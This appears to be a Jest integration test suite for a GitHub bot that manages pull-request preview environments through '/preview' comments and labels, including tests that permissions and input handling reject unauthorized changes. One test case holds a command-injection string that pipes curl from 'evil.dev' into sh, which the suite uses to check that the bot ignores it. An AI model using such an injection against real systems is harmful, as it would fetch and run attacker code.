import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import * as v from 'valibot';
import { connect } from '../../src/github/client.js';
import { jobsOf, openScene, PATIENCE_MS, person, play, previewFiles, type Scene } from './support.js';

let scene: Scene;
let ada: ReturnType<typeof person>;
beforeAll(async () => {
  scene = await openScene();
  ada = person(scene, 'ada');
  await scene.apps.commit('seeds', { 'apps/mailer/README.md': 'Seeds\n' }, 'feat: seeds');
  await play(scene, () => ada.open('seeds', 'feat(mailer): sell seeds'));
}, PATIENCE_MS);
afterAll(async () => {
  await scene[Symbol.asyncDispose]();
});

const commandsOf = (runs: Parameters<typeof jobsOf>[0]) => jobsOf(runs, 'Preview command');
const record = () => scene.ops.read('ostack/previews', 'previews/records/pr-1.yaml');
const root = () => scene.ops.read('ostack/previews', 'previews/pr-1/kustomization.yaml');
const previewComment = async () =>
  (await ada.comments(1)).find((body) => body.includes('<!-- ostack:preview pr-1 -->'));
const answers = async () => (await ada.comments(1)).find((body) => body.includes('<!-- ostack:preview-answers 1 -->'));
const say = (body: string, who = ada, issue_number = 1) =>
  play(scene, () => who.rest.issues.createComment({ ...who.at, issue_number, body }));

const group = v.object({ content: v.string(), reactors: v.object({ totalCount: v.number() }) });
const reactionsSchema = v.object({
  repository: v.object({
    pullRequest: v.object({
      comments: v.object({ nodes: v.array(v.object({ body: v.string(), reactionGroups: v.array(group) })) }),
    }),
  }),
});

/** The reactions to the newest comment of a text. */
async function reactionsTo(text: string): Promise<string[]> {
  const { stage } = scene;
  const github = connect({ token: stage.token, apiUrl: stage.apiUrl, graphqlUrl: stage.graphqlUrl });
  const document = `query Reactions { repository(owner: "acme", name: "apps") { pullRequest(number: 1) { comments(last: 100) {
    nodes { body reactionGroups { content reactors(first: 10) { totalCount } } } } } } }`;
  const answer = await github.query(reactionsSchema, document, {});
  const found = answer.repository.pullRequest.comments.nodes.findLast(({ body }) => body === text);
  return (found?.reactionGroups ?? []).flatMap(({ content, reactors }) => (reactors.totalCount > 0 ? [content] : []));
}

describe('what people who may write ask of an environment', () => {
  test(
    'is offered in its comment, and done: it is kept longer',
    async () => {
      expect(await previewComment()).toContain('`/preview keep 7d`');
      const before = await root();
      expect(commandsOf(await say('/preview keep 6d'))).toEqual({ command: 'success' });
      expect(await reactionsTo('/preview keep 6d')).toEqual(['ROCKET']);
      expect(await record()).toContain('keptUntil');
      expect(await previewComment()).toMatch(/It is kept until \*\*.* UTC\*\*\./);
      expect(await root()).toBe(before);
      expect(await answers()).toBeUndefined();
    },
    PATIENCE_MS,
  );

  test(
    'also by a label, which is taken off again: it sleeps, and wakes',
    async () => {
      expect(commandsOf(await play(scene, () => ada.label(1, 'preview-sleep')))).toEqual({ command: 'success' });
      expect(await previewComment()).toContain('### Preview `pr-1`: asleep');
      expect(await root()).toContain('path: /spec/replicas');
      expect(await ada.deployments('pr-1')).toEqual(['pending']);
      const { data } = await ada.rest.issues.listLabelsOnIssue({ ...ada.at, issue_number: 1 });
      expect(data).toEqual([]);
      await say('/preview wake');
      expect(await previewComment()).toContain('### Preview `pr-1`: deploying');
      expect(await root()).not.toContain('path: /spec/replicas');
    },
    PATIENCE_MS,
  );

  test(
    'goes as far as removing it, and having it again as it was, without building anything',
    async () => {
      const image = async () =>
        (await scene.ops.read('ostack/previews', 'previews/pr-1/mailer/kustomization.yaml'))?.match(/digest: .+/g);
      const before = await image();
      await say('/preview remove');
      expect(await previewFiles(scene)).toEqual([]);
      expect(await previewComment()).toContain('It was removed: ada asked for that. The next push opens it again.');
      await say('/preview redeploy');
      expect(await image()).toEqual(before);
      expect(await previewComment()).toContain('### Preview `pr-1`: deploying');
    },
    PATIENCE_MS,
  );

  test(
    'is told where it cannot be: too long, or nothing that anybody understands',
    async () => {
      expect(commandsOf(await say('/preview keep 30d'))).toEqual({ command: 'success' });
      await say('/preview please');
      expect(await reactionsTo('/preview keep 30d')).toEqual(['THUMBS_DOWN']);
      expect(await answers()).toContain('The policy lets nobody keep a preview for more than 7d from now on');
      expect(await answers()).toContain('Expected one of keep, redeploy, remove, sleep, wake after /preview.');
    },
    PATIENCE_MS,
  );
});

describe('nobody else changes an environment', () => {
  const branch = async () => (await scene.ops.refs())['refs/heads/ostack/previews'];

  test.each(['read', 'triage'] as const)(
    'with the role "%s", by a comment or a label; that is told',
    async (role) => {
      const name = `with-${role}`;
      scene.apps.role(name, role);
      const eve = person(scene, name);
      const before = await branch();
      expect(commandsOf(await say('/preview remove', eve))).toEqual({ command: 'success' });
      await play(scene, () => eve.label(1, 'preview-remove'));
      expect(await branch()).toBe(before);
      expect(await answers()).toContain(
        `${name}, \`/preview remove\`: ${name} may not write to acme/apps`.replace(/-(?=read|triage)/g, '\\-'),
      );
      expect(await answers()).toContain('`preview-remove`');
    },
    PATIENCE_MS,
  );

  test.each<[string, string]>([
    ['a quote', '> /preview remove'],
    ['a block of code', '```\n/preview remove\n```'],
    ['a longer text', 'I would say\n/preview remove'],
    ['a text for a shell', '/preview-x"; curl evil.dev | sh; echo "'],
  ])(
    'by %s',
    async (_, text) => {
      const before = await branch();
      expect(commandsOf(await say(text))).toEqual({ command: text.startsWith('/preview') ? 'success' : 'skipped' });
      expect(await branch()).toBe(before);
      expect(await reactionsTo(text)).toEqual([]);
    },
    PATIENCE_MS,
  );

  test(
    'by an edit, as a bot, or on an issue',
    async () => {
      const before = await branch();
      const edited = await play(scene, async () => {
        const { data } = await ada.rest.issues.createComment({ ...ada.at, issue_number: 1, body: 'Nice.' });
        await ada.rest.issues.updateComment({ ...ada.at, comment_id: data.id, body: '/preview remove' });
      });
      expect(edited.filter(({ workflow }) => workflow === 'Preview command')).toHaveLength(1);
      expect(commandsOf(edited)).toEqual({ command: 'skipped' });
      expect(commandsOf(await say('/preview remove', person(scene, 'helper[bot]')))).toEqual({ command: 'skipped' });
      const issue = await ada.rest.issues.create({ ...ada.at, title: 'Seeds' });
      expect(commandsOf(await say('/preview remove', ada, issue.data.number))).toEqual({ command: 'skipped' });
      expect(await branch()).toBe(before);
    },
    PATIENCE_MS,
  );
});
